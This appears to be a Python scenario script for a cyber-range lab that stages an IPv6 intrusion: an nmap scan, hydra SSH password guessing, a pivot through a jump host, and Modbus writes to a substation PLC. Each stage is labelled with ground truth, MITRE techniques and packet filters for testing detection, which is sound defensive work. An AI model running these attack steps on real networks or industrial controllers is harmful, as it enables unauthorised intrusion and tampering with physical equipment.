"""All by IPv6, from addresses that change: one host with temporary addresses (RFC 8981) on either end of the first hop.

    attacker (three addresses of one /64) ──ssh──▶ web (DMZ; goes on from another address of its own)
        ──ssh──▶ jump (control centre) ──Modbus──▶ plc3 (substation)
"""

import time

from lab import attack, network

DESCRIPTION = ("An intruder scans, guesses and logs in by IPv6, from another temporary address of one /64 each time; the web "
               "server goes on from a temporary address to the jump host, and that writes to a PLC.")
PACE = 2
TAPS = attack.taps("border", "dmz", "substation")

SCANS, GUESSES, LOGS_IN = ("2001:db8:67:0:3c1d:92ff:aa07:61b4", "2001:db8:67:0:f0a2:4be:9d13:c75e",
                           "2001:db8:67:0:51e6:8a90:2f4b:1d03")
WEB, WEB_TEMPORARY, JUMP, PLC = ("2001:db8:20:20::10", "2001:db8:20:20:a41f:6c2e:9b05:d873", "fd20:0:0:40::10",
                                 "fd20:0:0:50::13")
WORDS = "123456 password webadmin admin letmein qwerty Welcome1 Passw0rd! changeme Summer2026 Winter2026!".split()


def prepare(lab):
    attacker, isp, web = map(network.namespace, ("attacker", "isp", "web"))
    network.sh(f"ip -n {isp} addr add 2001:db8:67::1/64 dev internet nodad")
    for address in (SCANS, GUESSES, LOGS_IN):
        network.sh(f"ip -n {attacker} addr add {address}/64 dev eth-intern nodad")
    network.sh(f"ip -n {web} addr add {WEB_TEMPORARY}/64 dev eth-dmz nodad")


def use(source):
    """The attacker's host speaks from this address now."""
    name = network.namespace("attacker")
    network.sh(f"ip -n {name} -6 route replace default via 2001:db8:66::1 src {source}")


def play(lab, people, truth):
    time.sleep(10)
    use(SCANS)
    with truth.stage("scan", "Port scan of the web server", source=[SCANS], destination=[WEB], protocol="tcp", ports=[],
                     taps=["border", "dmz"], techniques=[attack.enterprise("reconnaissance", "T1595.001")],
                     evidence=f"ipv6.src == {SCANS} && tcp.flags.syn == 1 && tcp.flags.ack == 0", expect="vertical scan"):
        lab.must("attacker", ["nmap", "-6", "-sT", "-n", "-Pn", "--max-rate", "60", "--top-ports", "100", WEB])
    use(GUESSES)
    with truth.stage("guess", "Password guessing, with success", source=[GUESSES], destination=[WEB], protocol="ssh",
                     ports=[22], taps=["border", "dmz"],
                     techniques=[attack.enterprise("credential-access", "T1110.001")],
                     evidence=f"ipv6.src == {GUESSES} && ssh.protocol", expect="failed logins, then one that succeeds"):
        path = lab.dir / "words"
        path.write_text("\n".join(WORDS) + "\n")
        found = lab.run("attacker", ["timeout", "40", "hydra", "-6", "-I", "-f", "-t", "4", "-l", "webadmin", "-P", str(path),
                                     "-o", "/dev/null", f"ssh://[{WEB}]"]).stdout
        if "password: Winter2026!" not in found:
            raise RuntimeError("the password was not found\n" + found)
    with truth.stage("first", "Login to the web server", source=[LOGS_IN], destination=[WEB], protocol="ssh", ports=[22],
                     taps=["border", "dmz"], techniques=attack.LOGIN, evidence=f"ipv6.src == {LOGS_IN} && ssh",
                     expect="login from the network that has just guessed passwords", must_detect=False), \
         truth.stage("second", "Login from the web server to the jump host", source=[WEB_TEMPORARY], destination=[JUMP],
                     protocol="ssh", ports=[22], taps=["dmz"], techniques=attack.LATERAL,
                     evidence=f"ipv6.src == {WEB_TEMPORARY} && ipv6.dst == {JUMP} && ssh",
                     expect="SSH from the DMZ into the control centre", must_detect=False), \
         truth.stage("writes", "Writes from the jump host", source=[JUMP], destination=[PLC], protocol="modbus", ports=[502],
                     taps=["substation"], techniques=attack.WRITES,
                     evidence=f"ipv6.src == {JUMP} && ipv6.dst == {PLC} && {attack.WRITING}", expect="writes from a stranger"):
        session = attack.typing(lab, "attacker", [
            [2, "cd /run/tocsin-range/programs; id"],
            [2, f"sed 's/-tt/-b {WEB_TEMPORARY} -tt/' hop > ~/hop"],
            [1, f"sh ~/hop {JUMP} netadmin Kestrel-19-ladder"],
            [3, "cd /run/tocsin-range/programs; ip addr"], [2, f"./meddle write {PLC}"], [2, "exit"], [1, "exit"]],
            attack.login(lab, "webadmin", "Winter2026!", WEB, "-b", LOGS_IN))
        attack.wait(session, 90)
    truth.hop(LOGS_IN, WEB, 22, "ssh", "first", "border")
    truth.hop(WEB_TEMPORARY, JUMP, 22, "ssh", "second", "dmz")
    truth.hop(JUMP, PLC, 502, "modbus", "writes", "substation")
    truth.notes.append(f"{SCANS}, {GUESSES} and {LOGS_IN} are one host; {WEB} and {WEB_TEMPORARY} are web")
    time.sleep(4)


def write(folder):
    pass
